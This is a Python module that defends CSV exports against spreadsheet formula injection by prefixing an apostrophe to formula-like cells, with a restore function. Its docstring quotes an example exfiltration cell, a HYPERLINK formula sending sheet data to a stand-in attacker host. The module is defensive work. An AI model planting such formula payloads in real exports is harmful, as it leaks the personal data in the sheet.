"""CSV files that a spreadsheet opens safely: cells that would start a formula are neutralised.

Lists come from outside (a partner's upload, a camp listing), and Kintrace writes their cells
back out: quarantine exports for a caseworker to correct, links and clusters. A cell such as
`=HYPERLINK("http://evil.example/?"&A2)` or `@SUM(1)` runs as a formula when the file is opened
in Excel or LibreOffice, and can send the sheet's names away. So every CSV Kintrace writes goes
through `csv_writer`, which follows OWASP's rule for CSV injection: a cell whose first character
is `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe (`'`), which
spreadsheets show as text and do not evaluate (RFC 4180 quoting alone does not stop it).

Two choices beyond the rule (docs/decisions/0410-csv-exports-neutralised.md):
- A cell that is entirely a decimal number (`-3.2500`, `+380671234567`, `1e-5`) is left as it
  is: it cannot be a formula, and machine columns such as `match_weight` stay numbers.
- The same holds after leading spaces or line breaks, which some spreadsheets trim on import, and
  for the full-width forms (＝ ＋ － ＠) some spreadsheets also accept.

`raw=True` (the commands' `--raw`) writes cells unchanged, for programs that read the file.
`restore` undoes the apostrophe, so a neutralised quarantine export imports back unchanged.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

#: First characters that make a spreadsheet read a cell as a formula (OWASP), with the
#: full-width forms.
TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_LEADING_BLANKS = " \n\u00a0\u3000"


def _formula_like(text: str) -> bool:
    """Would a spreadsheet read this (after any apostrophes already there) as a formula?"""
    core = text.lstrip("'").lstrip(_LEADING_BLANKS)
    return core[:1] in TRIGGERS and bool(core) and not _NUMBER.fullmatch(core.rstrip())


def neutralise(value: Any) -> str:
    """The cell as a spreadsheet may safely see it: a leading `'` if it would start a formula.

    Text that already starts with apostrophes before such a cell gets one more, so `restore`
    gives back exactly what was written (`'=x` -> `''=x` -> `'=x`).
    """
    text = "" if value is None else str(value)
    return "'" + text if _formula_like(text) else text


def restore(text: str) -> str:
    """Undo `neutralise`: the text without the apostrophe it added (any other text unchanged)."""
    if text[:1] == "'" and _formula_like(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """A `csv.writer` that neutralises every cell (see the module docstring)."""

    def __init__(self, out: IO[str], *, raw: bool = False, **fmt: Any) -> None:
        self._writer = csv.writer(out, **fmt)
        self.raw = raw

    def writerow(self, row: Iterable[Any]) -> Any:
        if self.raw:
            return self._writer.writerow(row)
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: IO[str], *, raw: bool = False, **fmt: Any) -> SafeWriter:
    """The writer every CSV export uses; `raw` keeps cells unchanged (for programs)."""
    return SafeWriter(out, raw=raw, **fmt)
